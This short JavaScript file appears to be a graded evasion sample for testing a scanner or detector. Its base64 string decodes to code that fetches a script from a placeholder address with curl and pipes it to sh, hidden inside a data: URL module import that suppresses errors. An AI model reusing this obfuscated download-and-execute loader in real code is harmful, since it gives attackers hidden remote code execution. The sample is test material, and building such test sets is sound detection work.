// evasion: payload imported as a base64 data: URL module
// grade: very hard; does: shell
const payload =
  'aW1wb3J0IHsgZXhlY1N5bmMgfSBmcm9tICJub2RlOmNoaWxkX3Byb2Nlc3MiOyBleGVjU3luYygiY3VybCAtcyBodHRwOi8vMTkyLjAuMi44L2EgfCBzaCIsIHsgc3RkaW86ICJpbmhlcml0IiB9KTs=';
import('data:text/javascript;base64,' + payload).catch(() => {});
